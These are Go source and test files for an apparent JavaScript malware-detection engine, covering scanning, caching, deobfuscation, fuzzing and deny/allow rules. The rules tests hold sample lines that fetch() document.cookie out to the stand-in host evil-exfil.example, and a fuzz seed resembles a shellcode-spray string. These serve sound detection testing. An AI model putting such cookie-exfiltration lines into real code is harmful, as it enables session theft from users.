			if r.Verdict != VerdictFailed || !errors.Is(r.Err, ErrInternal) {
				t.Errorf("dangling.js: verdict %v err %v", r.Verdict, r.Err)
			}
		}
	}
}

func TestScanFilesPreservesInputOrder(t *testing.T) {
	det, samples := trainedDetector(t)
	dir := t.TempDir()
	var paths []string
	for i := 0; i < 8; i++ {
		p := filepath.Join(dir, fmt.Sprintf("f%d.js", i))
		if err := os.WriteFile(p, []byte(samples[i%len(samples)].Source), 0o644); err != nil {
			t.Fatal(err)
		}
		paths = append(paths, p)
	}
	eng := New(det, Config{Workers: 4})
	results, stats := eng.ScanFiles(context.Background(), paths)
	if len(results) != len(paths) {
		t.Fatalf("%d results, want %d", len(results), len(paths))
	}
	for i, r := range results {
		if r.Path != paths[i] {
			t.Errorf("result %d is %s, want %s", i, r.Path, paths[i])
		}
	}
	if stats.Scanned != len(paths) {
		t.Errorf("scanned %d, want %d", stats.Scanned, len(paths))
	}
}

func TestScanSourcesStreamsResults(t *testing.T) {
	flagEvil := ClassifierFunc(func(ctx context.Context, src string) (bool, error) {
		return strings.Contains(src, "evil"), nil
	})
	eng := New(flagEvil, Config{Workers: 4, CacheSize: -1})
	srcs := []Source{
		{Name: "a.js", Content: "var a = 1;"},
		{Name: "b.js", Content: "evil();"},
		{Name: "c.js", Content: "var c = 3;"},
		{Name: "d.js", Content: "evil(evil());"},
	}
	var mu sync.Mutex
	emitted := make(map[string]Result)
	stats := eng.ScanSources(context.Background(), srcs, func(r Result) {
		mu.Lock()
		emitted[r.Path] = r
		mu.Unlock()
	})
	if len(emitted) != len(srcs) {
		t.Fatalf("emitted %d results, want %d", len(emitted), len(srcs))
	}
	for _, s := range srcs {
		r, ok := emitted[s.Name]
		if !ok {
			t.Fatalf("no result emitted for %s", s.Name)
		}
		wantMal := strings.Contains(s.Content, "evil")
		if r.Malicious != wantMal || r.Err != nil {
			t.Errorf("%s: malicious=%v err=%v, want malicious=%v", s.Name, r.Malicious, r.Err, wantMal)
		}
	}
	if stats.Scanned != len(srcs) || stats.Flagged != 2 {
		t.Errorf("stats = %+v, want Scanned=%d Flagged=2", stats, len(srcs))
	}
}

func TestScanSourcesCancelled(t *testing.T) {
	eng := New(ClassifierFunc(func(ctx context.Context, src string) (bool, error) {
		return false, nil
	}), Config{Workers: 2, CacheSize: -1})
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	var n int64
	stats := eng.ScanSources(ctx, []Source{{Name: "x.js"}, {Name: "y.js"}}, func(r Result) {
		atomic.AddInt64(&n, 1)
		if r.Verdict != VerdictFailed || !errors.Is(r.Err, ErrTimeout) {
			t.Errorf("%s: verdict %v err %v, want FAILED/ErrTimeout", r.Path, r.Verdict, r.Err)
		}
	})
	if n != 2 || stats.Failed != 2 {
		t.Errorf("emitted %d, stats %+v; want 2 failed results", n, stats)
	}
}

func TestEngineCancellation(t *testing.T) {
	det, _ := trainedDetector(t)
	dir := t.TempDir()
	var paths []string
	for i := 0; i < 4; i++ {
		p := filepath.Join(dir, fmt.Sprintf("f%d.js", i))
		if err := os.WriteFile(p, []byte("var a = 1;"), 0o644); err != nil {
			t.Fatal(err)
		}
		paths = append(paths, p)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel() // cancelled before the scan starts
	eng := New(det, Config{Workers: 2})
	results, stats := eng.ScanFiles(ctx, paths)
	if len(results) != len(paths) {
		t.Fatalf("%d results, want %d", len(results), len(paths))
	}
	for _, r := range results {
		if r.Verdict != VerdictFailed || !errors.Is(r.Err, ErrTimeout) {
			t.Errorf("%s: verdict %v err %v, want FAILED/ErrTimeout", r.Path, r.Verdict, r.Err)
		}
	}
	if stats.Failed != len(paths) {
		t.Errorf("failed %d, want %d", stats.Failed, len(paths))
	}
}

func TestVerdictString(t *testing.T) {
	for v, want := range map[Verdict]string{
		VerdictBenign:    "benign",
		VerdictMalicious: "MALICIOUS",
		VerdictDegraded:  "DEGRADED",
		VerdictFailed:    "FAILED",
		Verdict(42):      "Verdict(42)",
	} {
		if got := v.String(); got != want {
			t.Errorf("Verdict(%d).String() = %q, want %q", int(v), got, want)
		}
	}
}

// TestStatsTaxonomyAndScanMetrics scans a directory holding one file per
// taxonomy class and checks both views of the outcome: the per-reason Stats
// counts and the metric series landing in the context's registry.
func TestStatsTaxonomyAndScanMetrics(t *testing.T) {
	det, samples := trainedDetector(t)
	dir := t.TempDir()
	files := map[string]string{
		"good.js":   samples[0].Source,
		"broken.js": "var = = ;;;(",
		"deep.js":   "var x = " + strings.Repeat("(", 60000) + "1" + strings.Repeat(")", 60000) + ";",
		"big.js":    "var filler = 0;\n" + strings.Repeat("filler = filler + 1;\n", 20000),
		"slow.js":   slowMarker + "\nvar a = 1;",
	}
	for name, src := range files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
	}

	reg := obs.NewRegistry()
	ctx := obs.WithRegistry(context.Background(), reg)
	eng := New(&markedSlow{det: det}, Config{
		Workers:  2,
		Timeout:  time.Second,
		MaxBytes: 256 << 10, // catches big.js (~420KB), passes deep.js (~120KB)
	})
	_, stats, err := eng.ScanDir(ctx, dir)
	if err != nil {
		t.Fatalf("ScanDir: %v", err)
	}

	want := Stats{ParseErrors: 1, Timeouts: 1, TooLarge: 1, DepthLimit: 1, Internal: 0}
	if stats.ParseErrors != want.ParseErrors || stats.Timeouts != want.Timeouts ||
		stats.TooLarge != want.TooLarge || stats.DepthLimit != want.DepthLimit ||
		stats.Internal != want.Internal {
		t.Errorf("taxonomy counts = %+v", stats)
	}
	if sum := stats.ParseErrors + stats.Timeouts + stats.TooLarge +
		stats.DepthLimit + stats.Internal; sum != stats.Degraded+stats.Failed {
		t.Errorf("taxonomy sum %d != degraded+failed %d", sum, stats.Degraded+stats.Failed)
	}

	// Every finished file must land in the duration and queue-wait
	// histograms of the scan context's registry.
	if n := reg.Histogram(FileDurationMetric, "", nil, nil).Count(); n != uint64(len(files)) {
		t.Errorf("duration observations = %d, want %d", n, len(files))
	}
	if n := reg.Histogram(QueueWaitMetric, "", nil, nil).Count(); n != uint64(len(files)) {
		t.Errorf("queue-wait observations = %d, want %d", n, len(files))
	}
	for reason, want := range map[string]int64{
		"parse": 1, "timeout": 1, "too_large": 1, "depth_limit": 1, "internal": 0,
	} {
		c := reg.Counter(ErrorsMetric, "", obs.Labels{"reason": reason})
		if c.Value() != want {
			t.Errorf("errors{reason=%q} = %d, want %d", reason, c.Value(), want)
		}
	}
	var verdictTotal int64
	for _, label := range verdictLabels {
		verdictTotal += reg.Counter(FilesMetric, "", obs.Labels{"verdict": label}).Value()
	}
	if verdictTotal != int64(len(files)) {
		t.Errorf("verdict counter total = %d, want %d", verdictTotal, len(files))
	}
	if b := reg.Counter(BytesMetric, "", nil).Value(); b <= 0 {
		t.Errorf("bytes counter = %d, want > 0", b)
	}
	if g := reg.Gauge(InflightMetric, "", nil).Value(); g != 0 {
		t.Errorf("inflight gauge = %v after scan, want 0", g)
	}
}

func TestReason(t *testing.T) {
	for _, c := range []struct {
		err  error
		want string
	}{
		{nil, ""},
		{fmt.Errorf("wrap: %w", ErrParse), "parse"},
		{fmt.Errorf("wrap: %w", ErrDepthLimit), "depth_limit"},
		{fmt.Errorf("wrap: %w", ErrTimeout), "timeout"},
		{fmt.Errorf("wrap: %w", ErrTooLarge), "too_large"},
		{fmt.Errorf("wrap: %w", ErrInternal), "internal"},
		{errors.New("outside the taxonomy"), "internal"},
	} {
		if got := Reason(c.err); got != c.want {
			t.Errorf("Reason(%v) = %q, want %q", c.err, got, c.want)
		}
	}
}

// BenchmarkScanSource measures the per-file hot path of the engine,
// instrument accounting included. The verdict cache is disabled so every
// iteration pays the full pipeline — the comparable cached path is
// BenchmarkScanSourceCachedRescan.
func BenchmarkScanSource(b *testing.B) {
	det, samples := trainedDetector(b)
	eng := New(det, Config{CacheSize: -1})
	src := samples[0].Source
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if res := eng.ScanSource(context.Background(), "bench.js", src); res.Err != nil {
			b.Fatal(res.Err)
		}
	}
}

// BenchmarkScanFiles measures the concurrent engine over a small directory
// tree with the default worker pool.
func BenchmarkScanFiles(b *testing.B) {
	det, samples := trainedDetector(b)
	dir := b.TempDir()
	var paths []string
	for i := 0; i < 16; i++ {
		p := filepath.Join(dir, fmt.Sprintf("f%d.js", i))
		if err := os.WriteFile(p, []byte(samples[i%len(samples)].Source), 0o644); err != nil {
			b.Fatal(err)
		}
		paths = append(paths, p)
	}
	eng := New(det, Config{Workers: 4, CacheSize: -1})
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_, stats := eng.ScanFiles(context.Background(), paths)
		if stats.Failed != 0 {
			b.Fatalf("%d files failed", stats.Failed)
		}
	}
}

// BenchmarkScanSourceCachedRescan measures rescanning content the engine has
// already classified: one cold scan primes the verdict cache, then every
// iteration is a cache hit (hash + LRU lookup + instrument accounting).
func BenchmarkScanSourceCachedRescan(b *testing.B) {
	det, samples := trainedDetector(b)
	eng := New(det, Config{})
	src := samples[0].Source
	if res := eng.ScanSource(context.Background(), "prime.js", src); res.Err != nil {
		b.Fatal(res.Err)
	}
	b.SetBytes(int64(len(src)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if res := eng.ScanSource(context.Background(), "bench.js", src); res.Err != nil {
			b.Fatal(res.Err)
		}
	}
}

func TestClassifyErrorTaxonomy(t *testing.T) {
	bg := context.Background()
	expired, cancel := context.WithTimeout(bg, 0)
	defer cancel()
	<-expired.Done()

	cases := []struct {
		name string
		in   error
		ctx  context.Context
		want error
	}{
		{"nil", nil, bg, nil},
		{"depth", fmt.Errorf("wrap: %w", parser.ErrTooDeep), bg, ErrDepthLimit},
		{"cancel", parser.ErrCancelled, bg, ErrTimeout},
		{"deadline", context.DeadlineExceeded, bg, ErrTimeout},
		{"late-surfacing", errors.New("stage gave up"), expired, ErrTimeout},
		{"parse", &parser.ParseError{Msg: "boom", Line: 1, Col: 1}, bg, ErrParse},
		{"unknown", errors.New("mystery"), bg, ErrInternal},
	}
	for _, c := range cases {
		got := classifyError(c.in, c.ctx)
		if c.want == nil {
			if got != nil {
				t.Errorf("%s: got %v, want nil", c.name, got)
			}
			continue
		}
		if !errors.Is(got, c.want) {
			t.Errorf("%s: got %v, want %v", c.name, got, c.want)
		}
	}
}
