// The engine's side of the deobfuscation stage: resolving whether one scan
// should normalize (engine default, overridable per request via context) and
// running the pipeline under the per-file deadline with a "scan.deob" span
// so its cost lands in stages_ms next to parse and classify.
package scan

import (
	"context"

	"jsrevealer/internal/js/parser"
	"jsrevealer/internal/obs"
)

// deobCtxKey carries a per-scan override of Config.Deobfuscate.Enabled.
type deobCtxKey struct{}

// WithDeobfuscate overrides the engine's Deobfuscate.Enabled setting for
// every scan run under the returned context — the hook the serving layer
// uses for the per-request ?deobfuscate= switch. The override changes only
// whether the normalization stage runs; budgets (MaxRounds, MaxNodes) stay
// at the engine's configured values.
func WithDeobfuscate(ctx context.Context, enabled bool) context.Context {
	return context.WithValue(ctx, deobCtxKey{}, enabled)
}

// deobOn resolves the effective deobfuscation setting for one scan: the
// context override when present, the engine config otherwise.
func (e *Engine) deobOn(ctx context.Context) bool {
	if v, ok := ctx.Value(deobCtxKey{}).(bool); ok {
		return v
	}
	return e.cfg.Deobfuscate.Enabled
}

// normalizeSource runs the deobfuscation pipeline over src and returns the
// normalized source plus the passes that fired (the deob_passes
// provenance). Any failure — parse error, budget cut mid-way, panic inside
// a pass — returns src unchanged: normalization is an accuracy
// optimization, never a gate, so a script the pipeline cannot handle is
// simply classified as submitted. The ctx deadline is threaded through the
// re-parse, and the stage is covered by a "scan.deob" span so its cost
// shows up in traces and audit stage timings.
func (e *Engine) normalizeSource(ctx context.Context, src string) (string, []string) {
	ctx, sp := obs.StartSpan(ctx, "scan.deob")
	defer sp.End()
	lim := parser.Limits{MaxDepth: e.cfg.MaxDepth, MaxTokens: e.cfg.MaxTokens}
	out, rep, err := e.deob.Normalize(ctx, src, lim)
	if err != nil || rep == nil {
		return src, nil
	}
	return out, rep.Fired()
}
