// Rules-layer integration: the acceptance properties of combining the
// declarative rules engine with the classifier. A deny rule flips a
// model-benign verdict; an allow rule short-circuits the model; annotation
// hits ride on the model's verdict; the verdict cache never serves across
// rule generations; and with rules disabled the engine is bit-identical to
// a rules-free build (the golden pin for PR 9 behavior).
package scan

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"jsrevealer/internal/alert"
	"jsrevealer/internal/audit"
	"jsrevealer/internal/obs"
	"jsrevealer/internal/rules"
)

// testRules compiles one in-memory rule file and pins it at generation 1,
// the way a Holder would.
func testRules(t testing.TB, src string) rules.Provider {
	t.Helper()
	f, err := rules.Parse("test.json", []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	set, err := rules.Compile([]*rules.File{f})
	if err != nil {
		t.Fatal(err)
	}
	set.Gen = 1
	return rules.StaticProvider{Set: set}
}

// benignClassifier is a model that never flags, counting its runs.
func benignClassifier(runs *int64) ClassifierFunc {
	return func(ctx context.Context, src string) (bool, error) {
		atomic.AddInt64(runs, 1)
		return false, nil
	}
}

const denyRuleFile = `{"version":1,"deny":[{"id":"exfil-c2","severity":"critical","domains":["evil-exfil.example"]}]}`

// TestDenyRuleFlipsModelBenign: the acceptance scenario — the model says
// benign, a deny-listed domain in the script forces malicious, and the rule
// hit is visible on the Result.
func TestDenyRuleFlipsModelBenign(t *testing.T) {
	var runs int64
	eng := New(benignClassifier(&runs), Config{Workers: 1, Rules: testRules(t, denyRuleFile)})
	src := `var x = fetch("https://cdn.evil-exfil.example/drop?d=" + document.cookie);`

	res := eng.ScanSource(context.Background(), "flip.js", src)
	if res.Verdict != VerdictMalicious || !res.Malicious {
		t.Fatalf("verdict = %v, want MALICIOUS", res.Verdict)
	}
	if res.Tier != TierRules {
		t.Fatalf("tier = %q, want %q", res.Tier, TierRules)
	}
	if len(res.RuleHits) != 1 || res.RuleHits[0].Rule != "exfil-c2" || res.RuleHits[0].Kind != rules.HitDeny {
		t.Fatalf("rule hits = %+v", res.RuleHits)
	}
	if atomic.LoadInt64(&runs) != 0 {
		t.Fatalf("model ran %d times, want 0 (deny short-circuits)", runs)
	}

	// Without the deny-listed content the same engine stays model-driven.
	clean := eng.ScanSource(context.Background(), "clean.js", `var x = fetch("https://cdn.example.org/app.js");`)
	if clean.Verdict != VerdictBenign || clean.Tier != TierPipeline || len(clean.RuleHits) != 0 {
		t.Fatalf("clean result = %+v, want model benign with no hits", clean)
	}
	if atomic.LoadInt64(&runs) != 1 {
		t.Fatalf("model ran %d times, want 1", runs)
	}
}

// TestDenyBeatsTriage: a deny hit must convict even when the triage tier
// would have cleared the script lexically — deny runs pre-triage.
func TestDenyBeatsTriage(t *testing.T) {
	var runs int64
	eng := New(benignClassifier(&runs), Config{
		Workers: 1,
		Triage:  triageOn(),
		Rules:   testRules(t, denyRuleFile),
	})
	srcs := clearableBenign(t, 1)
	poisoned := srcs[0] + `
var beacon = "https://evil-exfil.example/ping";`
	res := eng.ScanSource(context.Background(), "poisoned.js", poisoned)
	if res.Verdict != VerdictMalicious || res.Tier != TierRules {
		t.Fatalf("result = %+v, want rules-tier malicious", res)
	}
	// The un-poisoned original still clears triage normally.
	res = eng.ScanSource(context.Background(), "clean.js", srcs[0])
	if res.Verdict != VerdictBenign || res.Tier != TierTriage {
		t.Fatalf("result = %+v, want triage clear", res)
	}
}

// TestAllowShortCircuitsModel: an allow-listed marker string answers benign
// without running the classifier, even one that would have flagged.
func TestAllowShortCircuitsModel(t *testing.T) {
	flagAll := ClassifierFunc(func(ctx context.Context, src string) (bool, error) {
		return true, nil
	})
	eng := New(flagAll, Config{
		Workers: 1,
		Rules:   testRules(t, `{"version":1,"allow":[{"id":"vendor-bundle","strings":["@license acme-vendor"]}]}`),
	})
	res := eng.ScanSource(context.Background(), "vendor.js", `/* @license acme-vendor */ eval(x);`)
	if res.Verdict != VerdictBenign || res.Malicious {
		t.Fatalf("verdict = %v, want benign via allow", res.Verdict)
	}
	if res.Tier != TierRules || len(res.RuleHits) != 1 || res.RuleHits[0].Kind != rules.HitAllow {
		t.Fatalf("result = %+v, want allow-tier provenance", res)
	}
	// Without the marker the flagging model decides.
	res = eng.ScanSource(context.Background(), "other.js", `eval(x);`)
	if res.Verdict != VerdictMalicious || res.Tier != TierPipeline {
		t.Fatalf("result = %+v, want model malicious", res)
	}
}

// TestAnnotationRidesOnModelVerdict: a non-forcing signature hit does not
// change the verdict; it annotates it.
func TestAnnotationRidesOnModelVerdict(t *testing.T) {
	var runs int64
	eng := New(benignClassifier(&runs), Config{
		Workers: 1,
		Rules:   testRules(t, `{"version":1,"signatures":[{"id":"uses-eval","severity":"low","match":{"substring":"eval("}}]}`),
	})
	res := eng.ScanSource(context.Background(), "annot.js", `eval("1+1");`)
	if res.Verdict != VerdictBenign || res.Tier != TierPipeline {
		t.Fatalf("result = %+v, want model benign", res)
	}
	if len(res.RuleHits) != 1 || res.RuleHits[0].Rule != "uses-eval" {
		t.Fatalf("rule hits = %+v, want the annotation", res.RuleHits)
	}
	if atomic.LoadInt64(&runs) != 1 {
		t.Fatalf("model ran %d times, want 1", runs)
	}
}

// TestForcingSignatureOverridesModel: a high-severity signature forces
// malicious even though the model says benign, at the rules tier.
func TestForcingSignatureOverridesModel(t *testing.T) {
	var runs int64
	eng := New(benignClassifier(&runs), Config{
		Workers: 1,
		Rules: testRules(t, `{"version":1,"signatures":[{"id":"fn-ctor","severity":"high","match":{
			"all":[{"substring":"new Function"},{"regex":"unescape\\s*\\("}]}}]}`),
	})
	res := eng.ScanSource(context.Background(), "force.js", `var f = new Function(unescape("%61%3d1"));`)
	if res.Verdict != VerdictMalicious || res.Tier != TierRules {
		t.Fatalf("result = %+v, want rules-tier malicious", res)
	}
	if atomic.LoadInt64(&runs) != 0 {
		t.Fatalf("model ran %d times, want 0", runs)
	}
}

// TestGoldenPinRulesDisabled: with Config.Rules unset, verdict, tier, hits,
// and stats are identical to a rules-free engine across representative
// inputs — the bit-for-bit compatibility pin.
func TestGoldenPinRulesDisabled(t *testing.T) {
	classifier := ClassifierFunc(func(ctx context.Context, src string) (bool, error) {
		return strings.Contains(src, "eval("), nil
	})
	mk := func(p rules.Provider) *Engine {
		return New(classifier, Config{Workers: 1, Triage: triageOn(), Rules: p})
	}
	base := mk(nil)
	nilProvider := mk(rules.StaticProvider{}) // provider present, nothing loaded

	srcs := clearableBenign(t, 2)
	inputs := []Source{
		{Name: "a.js", Content: srcs[0]},
		{Name: "b.js", Content: `eval(unescape("%61"));`},
		{Name: "c.js", Content: srcs[1]},
		{Name: "a2.js", Content: srcs[0]}, // cache hit
	}
	for _, src := range inputs {
		want := base.ScanSource(context.Background(), src.Name, src.Content)
		got := nilProvider.ScanSource(context.Background(), src.Name, src.Content)
		want.Duration, got.Duration = 0, 0
		if want.Verdict != got.Verdict || want.Malicious != got.Malicious ||
			want.Tier != got.Tier || len(got.RuleHits) != 0 {
			t.Fatalf("%s: rules-nil result %+v != rules-free %+v", src.Name, got, want)
		}
	}
}

// TestCacheDoesNotServeAcrossRuleGenerations: a reload invalidates cached
// verdicts — the new generation recomputes, and a newly deny-listed
// indicator flips a previously cached benign verdict.
func TestCacheDoesNotServeAcrossRuleGenerations(t *testing.T) {
	dir := t.TempDir()
	write := func(body string) {
		if err := os.WriteFile(filepath.Join(dir, "r.json"), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write(`{"version":1,"deny":[{"id":"seed","domains":["placeholder.invalid"]}]}`)
	h := rules.NewHolder(dir, obs.NewRegistry())
	if _, err := h.Reload(); err != nil {
		t.Fatal(err)
	}
	var runs int64
	eng := New(benignClassifier(&runs), Config{Workers: 1, Rules: h})
	src := `var u = "https://soon-to-be-denied.example/x";`

	res := eng.ScanSource(context.Background(), "v1.js", src)
	if res.Verdict != VerdictBenign || res.Tier != TierPipeline {
		t.Fatalf("gen1 result = %+v", res)
	}
	res = eng.ScanSource(context.Background(), "v1-again.js", src)
	if res.Tier != TierCache {
		t.Fatalf("repeat under same generation = %+v, want cache hit", res)
	}

	write(`{"version":1,"deny":[{"id":"fresh","domains":["soon-to-be-denied.example"]}]}`)
	if _, err := h.Reload(); err != nil {
		t.Fatal(err)
	}
	res = eng.ScanSource(context.Background(), "v2.js", src)
	if res.Verdict != VerdictMalicious || res.Tier != TierRules {
		t.Fatalf("post-reload result = %+v, want rules-tier malicious (stale cache served?)", res)
	}
	if len(res.RuleHits) != 1 || res.RuleHits[0].Rule != "fresh" {
		t.Fatalf("post-reload hits = %+v", res.RuleHits)
	}
	// And the new verdict is itself cacheable under the new generation.
	res = eng.ScanSource(context.Background(), "v2-again.js", src)
	if res.Tier != TierCache || res.Verdict != VerdictMalicious || len(res.RuleHits) != 1 {
		t.Fatalf("repeat under gen2 = %+v, want cached malicious with hits", res)
	}
}

// TestRuleHitsReachAuditAndStats: the audit record carries rule_hits, and
// Stats counts rule-matched files.
func TestRuleHitsReachAuditAndStats(t *testing.T) {
	dir := t.TempDir()
	log, err := audit.Open(dir, audit.Options{})
	if err != nil {
		t.Fatal(err)
	}
	eng := New(benignClassifier(new(int64)), Config{
		Workers: 1,
		Rules:   testRules(t, denyRuleFile),
		Audit:   log,
	})
	stats := eng.ScanSources(context.Background(), []Source{
		{Name: "hit.js", Content: `go("https://evil-exfil.example/x")`},
		{Name: "miss.js", Content: `var a = 1;`},
	}, nil)
	if err := log.Close(); err != nil {
		t.Fatal(err)
	}
	if stats.RuleMatched != 1 {
		t.Fatalf("Stats.RuleMatched = %d, want 1", stats.RuleMatched)
	}
	data, err := os.ReadFile(filepath.Join(dir, "audit.ndjson"))
	if err != nil {
		t.Fatal(err)
	}
	var hitRec *audit.Record
	for _, line := range strings.Split(strings.TrimSpace(string(data)), "\n") {
		var rec audit.Record
		if err := json.Unmarshal([]byte(line), &rec); err != nil {
			t.Fatalf("bad audit line %q: %v", line, err)
		}
		if rec.Name == "hit.js" {
			hitRec = &rec
		} else if len(rec.RuleHits) != 0 {
			t.Fatalf("%s: unexpected rule hits %+v", rec.Name, rec.RuleHits)
		}
	}
	if hitRec == nil {
		t.Fatal("no audit record for hit.js")
	}
	if hitRec.Tier != TierRules || len(hitRec.RuleHits) != 1 || hitRec.RuleHits[0].Rule != "exfil-c2" {
		t.Fatalf("audit record = %+v, want rules tier with the deny hit", hitRec)
	}
}

// publisherFunc adapts a function to alert.Publisher.
type publisherFunc func(a alert.Alert) bool

func (f publisherFunc) Publish(a alert.Alert) bool { return f(a) }

// alertRecorder collects the names of alerted scripts.
type alertRecorder struct {
	mu   sync.Mutex
	seen []string
}

func (r *alertRecorder) publish(name string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.seen = append(r.seen, name)
}

// TestAlertPublishedOnDenyOnly: deny verdicts publish an alert; annotation
// hits and clean scans do not.
func TestAlertPublishedOnDenyOnly(t *testing.T) {
	rec := &alertRecorder{}
	eng := New(benignClassifier(new(int64)), Config{
		Workers: 1,
		Rules: testRules(t, `{"version":1,
			"deny":[{"id":"exfil-c2","domains":["evil-exfil.example"]}],
			"signatures":[{"id":"uses-eval","severity":"low","match":{"substring":"eval("}}]}`),
		Alert: publisherFunc(func(a alert.Alert) bool {
			if a.Verdict != VerdictMalicious.String() || len(a.Hits) == 0 || a.SHA256 == "" {
				t.Errorf("alert payload = %+v", a)
			}
			rec.publish(a.Name)
			return true
		}),
	})
	eng.ScanSource(context.Background(), "deny.js", `go("https://evil-exfil.example/x")`)
	eng.ScanSource(context.Background(), "annot.js", `eval("1");`)
	eng.ScanSource(context.Background(), "clean.js", `var a = 1;`)
	rec.mu.Lock()
	defer rec.mu.Unlock()
	if len(rec.seen) != 1 || rec.seen[0] != "deny.js" {
		t.Fatalf("alerts for %v, want only deny.js", rec.seen)
	}
}
