// Content addressing for the verdict cache. The key must be
// collision-resistant against adversarial inputs, not just uniform on random
// ones: with a non-cryptographic hash (XXH64, FNV, ...) an attacker who can
// construct two same-digest scripts primes the cache with a benign one and
// then submits a colliding malicious one, which is answered from the cache
// without ever being scanned — a detection bypass, not a perf bug. SHA-256
// closes that line entirely (producing any collision breaks the hash
// itself), and its cost — a few microseconds on a typical script — is noise
// next to the hundreds of microseconds a cold pipeline pass takes.
package scan

import (
	"crypto/sha256"
	"unsafe"
)

// cacheKey is the SHA-256 digest of the script source.
type cacheKey [sha256.Size]byte

// contentKey digests s without copying it: Sum256 neither mutates nor
// retains its argument, so aliasing the string's backing bytes is safe and
// keeps the cache lookup allocation-free. StringData is unspecified for
// empty strings, hence the guard.
func contentKey(s string) cacheKey {
	if len(s) == 0 {
		return sha256.Sum256(nil)
	}
	return sha256.Sum256(unsafe.Slice(unsafe.StringData(s), len(s)))
}
