package scan

import (
	"context"
	"strings"
	"testing"
	"time"
)

// FuzzDetect drives the full hardened engine — trained detector, guards,
// fallback — over arbitrary bytes. The contract: every input yields a
// Result with a coherent verdict/error pairing, and never a panic, hang,
// or stack overflow. The shared package detector is trained once on the
// first execution.
func FuzzDetect(f *testing.F) {
	f.Add("var a = 1;")
	f.Add("eval(unescape('%u9090%u9090'));")
	f.Add(strings.Repeat("(", 5000))
	f.Add("\"unterminated")
	f.Add("\xff\xfe\x80")
	f.Add("var s = \"" + strings.Repeat("\\u0041", 2000) + "\";")
	f.Add("")

	f.Fuzz(func(t *testing.T, src string) {
		det, _ := trainedDetector(t)
		eng := New(det, Config{
			Workers:   1,
			Timeout:   5 * time.Second,
			MaxBytes:  1 << 20,
			MaxTokens: 200_000,
			MaxDepth:  500,
		})
		res := eng.ScanSource(context.Background(), "fuzz.js", src)
		switch res.Verdict {
		case VerdictBenign, VerdictMalicious:
			if res.Err != nil {
				t.Fatalf("clean verdict %v carries error %v", res.Verdict, res.Err)
			}
			// A clean verdict is cached (the engine uses the default cache):
			// rescanning the same bytes must reproduce it exactly.
			again := eng.ScanSource(context.Background(), "fuzz-rescan.js", src)
			if again.Verdict != res.Verdict || again.Malicious != res.Malicious {
				t.Fatalf("cached rescan (%v, %v) != original (%v, %v)",
					again.Verdict, again.Malicious, res.Verdict, res.Malicious)
			}
		case VerdictDegraded, VerdictFailed:
			if res.Err == nil {
				t.Fatalf("verdict %v without a structured error", res.Verdict)
			}
		default:
			t.Fatalf("unknown verdict %v", res.Verdict)
		}
	})
}
