package scan

import (
	"context"
	"fmt"
	"strings"
	"sync"
	"testing"

	"jsrevealer/internal/core"
	"jsrevealer/internal/corpus"
	"jsrevealer/internal/deobfuscate"
	"jsrevealer/internal/js/parser"
	"jsrevealer/internal/obfuscate"
	"jsrevealer/internal/obs"
)

func deobOnCfg() deobfuscate.Config {
	return deobfuscate.Config{Enabled: true}
}

// normalizedDetector trains the deob-matched twin of trainedDetector: the
// same samples, options, and seeds, but every training source normalized by
// the deobfuscation pipeline first. Enabling Config.Deobfuscate moves the
// classifier's input distribution — decode chains fold away, string arrays
// unroll — so the model must be trained where it will be evaluated. (The
// raw-trained detector paired with deob-on scanning demonstrably loses
// signal: the malicious families' fromCharCode/hex-escape decoding IS part
// of what it learned.)
var (
	normDetOnce sync.Once
	normDetVal  *core.Detector
	normDetErr  error
)

func normalizedDetector(t testing.TB) *core.Detector {
	t.Helper()
	trainedDetector(t) // fills detSamples
	normDetOnce.Do(func() {
		p := deobfuscate.NewPipeline(deobfuscate.Config{})
		norm := make([]core.Sample, len(detSamples))
		for i, s := range detSamples {
			out, _, err := p.Normalize(context.Background(), s.Source, parser.Limits{})
			if err != nil {
				out = s.Source
			}
			norm[i] = core.Sample{Source: out, Malicious: s.Malicious}
		}
		opts := core.DefaultOptions()
		opts.Seed = 11
		opts.Embedding.Seed = 11
		opts.Embedding.Dim = 24
		opts.Embedding.Epochs = 5
		opts.Path.MaxPaths = 400
		opts.MaxPoolPerClass = 800
		normDetVal, normDetErr = core.Train(norm, nil, opts)
	})
	if normDetErr != nil {
		t.Fatalf("Train (normalized): %v", normDetErr)
	}
	return normDetVal
}

// TestDeobfuscateOffGoldenPin is the zero-cost opt-out gate (same pattern
// as the triage-off gate in PR 8): with Deobfuscate disabled, every verdict
// is bit-identical to a plain engine's, no result carries DeobPasses, no
// deob metric moves, and the detector's fingerprint is untouched by the
// scans — the stage being merely present must change nothing.
func TestDeobfuscateOffGoldenPin(t *testing.T) {
	det, samples := trainedDetector(t)
	fpBefore, err := det.Fingerprint()
	if err != nil {
		t.Fatalf("Fingerprint: %v", err)
	}
	reg := obs.NewRegistry()
	ctx := obs.WithRegistry(context.Background(), reg)
	base := New(det, Config{CacheSize: -1})
	zero := New(det, Config{CacheSize: -1, Deobfuscate: deobfuscate.Config{}})
	for i, s := range samples {
		a := base.ScanSource(ctx, fmt.Sprintf("s%d.js", i), s.Source)
		b := zero.ScanSource(ctx, fmt.Sprintf("s%d.js", i), s.Source)
		if a.Verdict != b.Verdict || a.Malicious != b.Malicious {
			t.Fatalf("sample %d: verdict (%v,%v) with zero Deobfuscate config, want (%v,%v)",
				i, b.Verdict, b.Malicious, a.Verdict, a.Malicious)
		}
		if len(b.DeobPasses) != 0 {
			t.Fatalf("sample %d: DeobPasses = %v with deobfuscation disabled", i, b.DeobPasses)
		}
	}
	if got := reg.Counter(deobfuscate.RunsMetric, "", obs.Labels{"result": "changed"}).Value(); got != 0 {
		t.Errorf("deob runs recorded with stage disabled: %d", got)
	}
	fpAfter, err := det.Fingerprint()
	if err != nil {
		t.Fatalf("Fingerprint: %v", err)
	}
	if fpBefore != fpAfter {
		t.Fatalf("detector fingerprint changed across scans: %s -> %s", fpBefore, fpAfter)
	}
}

